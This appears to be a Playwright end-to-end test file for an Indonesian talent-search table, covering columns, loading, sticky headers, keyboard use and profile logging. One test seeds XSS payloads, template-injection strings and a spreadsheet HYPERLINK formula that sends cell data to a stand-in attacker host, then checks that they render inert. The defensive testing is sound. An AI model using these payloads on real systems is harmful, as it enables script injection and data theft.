@@ -1,0 +1,347 @@
+import type { Locator, Page } from '@playwright/test'
+import {
+  askedQuery,
+  chips,
+  field,
+  firstNames,
+  holdRows,
+  openTalents,
+  pageTold,
+  pressSearch,
+  results,
+  ROWS,
+  settled,
+} from '../../support/talents'
+import { stateFile } from '../../support/accounts'
+import { expect, rowOf, test } from '../../support/test'
+
+const table = (page: Page): Locator => page.getByRole('table', { name: 'Cari Talenta' })
+const region = (page: Page): Locator => page.getByRole('region', { name: 'Cari Talenta, dapat digulir' })
+const rows = (page: Page): Locator => table(page).locator('tbody').getByRole('row')
+const nextPage = (page: Page): Locator => page.getByRole('button', { name: 'Halaman berikutnya' })
+const announced = (page: Page): Locator => page.getByRole('status').filter({ hasText: /halaman|tidak ditemukan/ })
+
+const AYU = {
+  'Nama Depan': 'Ayu',
+  'Nama Belakang': 'Wulandari',
+  'Tanggal Lahir': '21/04/1999',
+  'Jenis Kelamin': 'Wanita',
+  Provinsi: 'Jawa Barat',
+  'Pendidikan Terakhir': 'S1',
+  'Institusi Pendidikan': 'Institut Teknologi Bandung',
+  Jurusan: 'Teknik Informatika',
+  'Perusahaan Terakhir': 'PT Sinar Digital Nusantara',
+  'Posisi Terakhir': 'Backend Engineer',
+  Kepribadian: 'Conscientiousness Openness',
+  Nilai: 'Achievement',
+  Minat: 'Investigative Social',
+  Interaksi: 'Steadiness',
+  Grit: 'High',
+  'Meaning Making': 'High',
+  Mindset: 'Growth',
+  Curiosity: 'High',
+  Humility: 'Medium',
+  Creativity: 'Medium',
+  'Purpose in Life': 'High',
+  Klobness: 'High',
+  'Kode Referal': 'NUSANTARA24',
+  Aksi: '',
+}
+/** A row as a record, with the blanks between tags made one; the last column comes when the codes of the corporate do. */
+async function record(page: Page, name: string): Promise<Record<string, string>> {
+  await expect(page.getByRole('columnheader', { name: 'Kode Referal' })).toBeAttached()
+  const entries = Object.entries(await rowOf(page, name))
+  return Object.fromEntries(entries.map(([header, text]) => [header, text.replace(/\s+/g, ' ').trim()]))
+}
+
+test('every column of the document, in its order, in words', async ({ page }) => {
+  await openTalents(page)
+  const ayu = await record(page, 'Ayu')
+  expect(ayu).toEqual(AYU)
+  expect(Object.keys(ayu)).toEqual(Object.keys(AYU))
+  expect(await record(page, 'Bayu')).toMatchObject({ 'Jenis Kelamin': 'Pria', Klobness: 'Medium' })
+  expect(await record(page, 'Citra')).toMatchObject({ 'Jenis Kelamin': 'Wanita', Klobness: 'Low' })
+
+  const { 'Nama Depan': _first, 'Nama Belakang': _last, Aksi: _action, ...unknown } = await record(page, 'Dian')
+  expect(new Set(Object.values(unknown))).toEqual(new Set(['-']))
+})
+
+test('more than two results of a test are two tags and how many more', async ({ page }) => {
+  await openTalents(page, '?testPers01=PERS-OPE&testPers01=PERS-EXT&size=50')
+  const more = page.getByText('+1', { exact: true })
+  const cell = page.getByRole('cell').filter({ has: more }).first()
+  const title = await cell.locator('[title]').first().getAttribute('title')
+  expect(title?.split(', ')).toHaveLength(3)
+  expect((await cell.innerText()).replace(/\s+/g, ' ')).toBe(`${title?.split(', ').slice(0, 2).join(' ')} +1`)
+})
+
+test('a hostile person is text everywhere', async ({ page, baseURL }) => {
+  const foreign: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(baseURL!)) foreign.push(request.url())
+  })
+  await openTalents(page, '?firstNames=Jahat')
+  await expect(rows(page)).toHaveCount(1)
+  const row = await record(page, 'Jahat')
+  expect(row).toMatchObject({
+    'Nama Depan': 'Jahat <img src=x onerror="alert(1)">',
+    'Nama Belakang': '<script>alert("jahat")</script>',
+    'Pendidikan Terakhir': '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
+    'Institusi Pendidikan': 'W'.repeat(300),
+    Jurusan: '<b><i><a href="https://jahat.example/?',
+    'Perusahaan Terakhir': '"><svg onload=alert(2)>',
+    'Posisi Terakhir': '{{position}} ${7*7} <%= 7*7 %>',
+    Curiosity: 'javascript:alert(3)',
+    Humility: 'data:text/html,%3Cscript%3Ealert(5)%3C/script%3E',
+    'Kode Referal': '<script>alert("jahat")</script>',
+  })
+  const name = 'Jahat <img src=x onerror="alert(1)"> <script>alert("jahat")</script>'
+  await expect(page.getByRole('button', { name: `Lihat profil ${name}`, exact: true })).toBeAttached()
+  await expect(page.getByTitle('<script>alert("jahat")</script>').first()).toBeAttached()
+  await expect(table(page).locator('img, script, a, form, b, i, iframe, [onerror], [onload]')).toHaveCount(0)
+  // Only the icons of the actions are drawings.
+  await expect(table(page).locator('svg:not([aria-hidden=true])')).toHaveCount(0)
+  // A word of 300 letters does not push the columns apart, and text from right to left stays in its cell.
+  const widths = await rows(page)
+    .first()
+    .locator('th, td')
+    .evaluateAll((cells) => cells.map((cell) => cell.clientWidth))
+  expect(Math.max(...widths)).toBeLessThanOrEqual(250)
+  expect(foreign).toEqual([])
+})
+
+test.describe('waiting', () => {
+  test('the first rows are awaited as a skeleton, later ones over the old', async ({ page }) => {
+    let release = await holdRows(page)
+    await page.goto('/dashboard/0/talentsearch?gender=F')
+    await expect(table(page)).toHaveAttribute('aria-busy', 'true')
+    await expect(table(page).locator('tbody')).toHaveAttribute('aria-hidden', 'true')
+    // A column that depends on an answer of its own.
+    await expect(table(page).getByRole('columnheader', { name: 'Kode Referal' })).toBeAttached()
+    const waiting = await table(page).boundingBox()
+    release()
+    await settled(page)
+    await expect(rows(page)).toHaveCount(10)
+    // Nothing jumps when the rows come.
+    expect(await table(page).boundingBox()).toEqual(waiting)
+
+    const old = await firstNames(page)
+    release = await holdRows(page)
+    await page.getByRole('button', { name: 'Halaman terakhir' }).click()
+    await expect(table(page)).toHaveAttribute('aria-busy', 'true')
+    expect(await firstNames(page)).toEqual(old)
+    release()
+    await settled(page)
+    await expect(pageTold(page, 'Halaman 95 dari 95')).toBeVisible()
+    await expect(rows(page)).toHaveCount(6)
+  })
+
+  test('the next page is fetched before it is asked for', async ({ page, world }) => {
+    await openTalents(page, '?gender=F')
+    await expect.poll(async () => (await world.calls(ROWS)).map(startOf)).toEqual(['0', '1'])
+    await world.forget()
+    await nextPage(page).click()
+    await expect(pageTold(page, 'Halaman 2 dari 95')).toBeVisible()
+    await settled(page)
+    // Only the page after it is new.
+    await expect.poll(async () => (await world.calls(ROWS)).map(startOf)).toEqual(['2'])
+  })
+
+  test('an answer for one corporate never shows under another', async ({ page }) => {
+    await openTalents(page, '?gender=F')
+    const release = await holdRows(page)
+    const givenUp = page.waitForEvent('requestfailed', (request) => request.url().includes('start=94'))
+    await page.getByRole('button', { name: 'Halaman terakhir' }).click()
+    await expect(table(page)).toHaveAttribute('aria-busy', 'true')
+    await page.evaluate(() => {
+      history.pushState({}, '', '/dashboard/1/talentsearch?firstNames=Citra')
+      dispatchEvent(new PopStateEvent('popstate'))
+    })
+    await expect(page.getByText('PT Samudra Logistik Abadi')).toBeVisible()
+    await expect(chips(page)).toHaveText(['Nama depan: Citra'])
+    // Nobody's rows meanwhile, and the call for the other corporate is given up, not only unseen.
+    await expect(table(page).locator('tbody')).toHaveAttribute('aria-hidden', 'true')
+    await givenUp
+    release()
+    await settled(page)
+    expect((await firstNames(page)).every((name) => name.includes('Citra'))).toBe(true)
+  })
+})
+const startOf = ({ query }: { query: [string, string][] }) => query.find(([name]) => name === 'start')?.[1]
+
+test('header, names and actions stay in sight', async ({ page }) => {
+  await openTalents(page, '?gender=F&size=50')
+  const box = async (locator: Locator) => (await locator.boundingBox())!
+  const head = table(page).getByRole('columnheader')
+  await expect(head).toHaveCount(24)
+  const corner = head.first()
+  const action = head.last()
+  const name = rows(page).first().getByRole('rowheader')
+  const before = { corner: await box(corner), action: await box(action), name: await box(name) }
+  const [last, third] = [await box(head.nth(1)), await box(head.nth(2))]
+  await region(page).evaluate((element) => element.scrollTo(700, 300))
+  await expect.poll(async () => (await box(name)).y).toBe(before.name.y - 300)
+  expect(await box(corner)).toEqual(before.corner)
+  expect(await box(action)).toEqual(before.action)
+  expect((await box(name)).x).toBe(before.name.x)
+  expect(await box(head.nth(1))).toEqual(last)
+  expect((await box(head.nth(2))).x).toBe(third.x - 700)
+  // What stays covers what passes beneath it.
+  const front = await corner.evaluate((element) => {
+    const { x, y, width, height } = element.getBoundingClientRect()
+    return document.elementFromPoint(x + width / 2, y + height / 2)?.closest('th') === element
+  })
+  expect(front).toBe(true)
+})
+
+test.describe('columns', () => {
+  const open = async (page: Page) => {
+    await page.getByRole('button', { name: /^Kolom/ }).click()
+    return page.getByRole('dialog', { name: 'Kolom yang ditampilkan' })
+  }
+
+  test('are hidden, remembered for the user, and all shown again', async ({ page, browser, baseURL }) => {
+    await openTalents(page, '?gender=F')
+    const chooser = await open(page)
+    await expect(chooser.getByRole('checkbox')).toHaveCount(22)
+    await chooser.getByRole('checkbox', { name: 'Provinsi' }).click()
+    await chooser.getByRole('checkbox', { name: 'Grit' }).click()
+    await page.keyboard.press('Escape')
+    await expect(chooser).toBeHidden()
+    const button = page.getByRole('button', { name: 'Kolom (2 tersembunyi)' })
+    await expect(button).toBeFocused()
+    for (const name of ['Provinsi', 'Grit'])
+      await expect(page.getByRole('columnheader', { name, exact: true })).toHaveCount(0)
+    await page.reload()
+    await settled(page)
+    await expect(button).toBeVisible()
+    await expect(page.getByRole('columnheader', { name: 'Provinsi' })).toHaveCount(0)
+
+    // Another person at the same browser sees all.
+    const kept = await page.evaluate(() => Object.entries(localStorage))
+    const other = await browser.newContext({ storageState: stateFile('siti.aminah'), ...(baseURL ? { baseURL } : {}) })
+    await other.addInitScript((entries) => {
+      for (const [name, value] of entries) localStorage.setItem(name, value)
+    }, kept)
+    const neighbour = await other.newPage()
+    await openTalents(neighbour, '?gender=F')
+    await expect(neighbour.getByRole('columnheader')).toHaveCount(24)
+    await other.close()
+
+    await (await open(page)).getByRole('button', { name: 'Tampilkan semua' }).click()
+    await expect(page.getByRole('columnheader')).toHaveCount(24)
+    await expect(page.getByRole('button', { name: 'Kolom', exact: true })).toBeVisible()
+  })
+
+  test('that were remembered wrongly are all shown', async ({ page }) => {
+    await page.addInitScript(() => {
+      localStorage.setItem('klob:columns:USR-BUDI:searchTalents', '{"sex":"no","gone":false,"__proto__":{"sex":false}')
+    })
+    await openTalents(page, '?gender=F')
+    await expect(page.getByRole('columnheader')).toHaveCount(24)
+  })
+})
+
+test('the keyboard walks rows, reaches the action and scrolls', async ({ page }) => {
+  await openTalents(page, '?gender=F')
+  const focused = () => page.evaluate(() => document.activeElement?.closest('tr')?.rowIndex)
+  await region(page).focus()
+  await page.keyboard.press('Tab')
+  expect(await focused()).toBe(1)
+  await page.keyboard.press('ArrowUp')
+  expect(await focused()).toBe(1)
+  for (const [key, row] of [
+    ['ArrowDown', 2],
+    ['ArrowDown', 3],
+    ['ArrowUp', 2],
+    ['End', 10],
+    ['ArrowDown', 10],
+    ['Home', 1],
+  ] as const) {
+    await page.keyboard.press(key)
+    expect(await focused(), key).toBe(row)
+  }
+  await page.keyboard.press('Tab')
+  await expect(page.getByRole('button', { name: 'Lihat profil Ayu Wulandari' })).toBeFocused()
+  await region(page).focus()
+  await page.keyboard.press('ArrowRight')
+  await expect.poll(() => region(page).evaluate((element) => element.scrollLeft)).toBeGreaterThan(0)
+})
+
+test.describe('profile', () => {
+  const view = (page: Page) => page.getByRole('button', { name: 'Lihat profil Ayu Wulandari' }).click()
+
+  test('opens in a tab of its own and is recorded once', async ({ page, context, world }) => {
+    await openTalents(page, '?firstNames=Ayu')
+    const opened = context.waitForEvent('page')
+    await view(page)
+    const tab = await opened
+    await tab.waitForLoadState()
+    expect(new URL(tab.url()).pathname).toBe('/situs/profile/USR-AYU')
+    expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
+    const log = 'logTalentProfileView'
+    await expect.poll(async () => (await world.calls(log)).map(({ status }) => status)).toEqual([200])
+    expect((await world.calls(log))[0]!.body).toEqual({
+      jobVacancy: null,
+      targetUserId: 'USR-AYU',
+      companyId: 'COR0001',
+    })
+  })
+
+  test('opens one tab on a double click and is recorded once', async ({ page, context, world }) => {
+    await openTalents(page, '?firstNames=Ayu')
+    const opened = context.waitForEvent('page')
+    await page.getByRole('button', { name: 'Lihat profil Ayu Wulandari' }).dblclick()
+    await (await opened).waitForLoadState()
+    await expect.poll(async () => (await world.calls('logTalentProfileView')).length).toBe(1)
+    expect(context.pages()).toHaveLength(2)
+  })
+
+  test('opens although the record fails, which is tried once', async ({ page, context, world }) => {
+    await world.fault({ endpoint: 'logTalentProfileView', kind: 'status', status: 500, times: 0 })
+    await openTalents(page, '?firstNames=Ayu')
+    const opened = context.waitForEvent('page')
+    await view(page)
+    await (await opened).waitForLoadState()
+    await expect
+      .poll(async () => (await world.calls('logTalentProfileView')).map(({ status }) => status))
+      .toEqual([500])
+    await expect(page.getByRole('alert')).toHaveCount(0)
+    await expect(page.getByRole('dialog')).toHaveCount(0)
+  })
+})
+
+test('what was found is announced; a search moves the focus to its results, paging does not', async ({
+  page,
+  world,
+}) => {
+  await openTalents(page)
+  await expect(announced(page)).toHaveText('2.000 orang, halaman 1 dari 200')
+  await field(page, 'Nama depan').fill('a')
+  await pressSearch(page)
+  await expect(results(page)).toBeFocused()
+  await expect(results(page)).toBeInViewport()
+  await expect(announced(page)).toHaveText(/^[\d.]+ orang, halaman 1 dari \d+$/)
+  await nextPage(page).focus()
+  await page.keyboard.press('Enter')
+  await expect(announced(page)).toHaveText(/halaman 2 dari/)
+  await expect(nextPage(page)).toBeFocused()
+
+  // The same question again is asked again, and is a search too.
+  await page.getByRole('button', { name: 'Halaman pertama' }).click()
+  await page.getByRole('button', { name: 'Ubah filter' }).click()
+  await settled(page)
+  await world.forget()
+  await pressSearch(page)
+  expect(await askedQuery(world)).toMatchObject({ firstNames: ['a'], start: ['0'] })
+  await expect(results(page)).toBeFocused()
+  await nextPage(page).click()
+  await expect(announced(page)).toHaveText(/halaman 2 dari/)
+  await expect(nextPage(page)).toBeFocused()
+
+  await page.getByRole('button', { name: 'Ubah filter' }).click()
+  await field(page, 'Nama depan').fill('Zzzz')
+  await pressSearch(page)
+  await expect(announced(page)).toHaveText('Data tidak ditemukan')
+  await expect(results(page)).toBeFocused()
+})
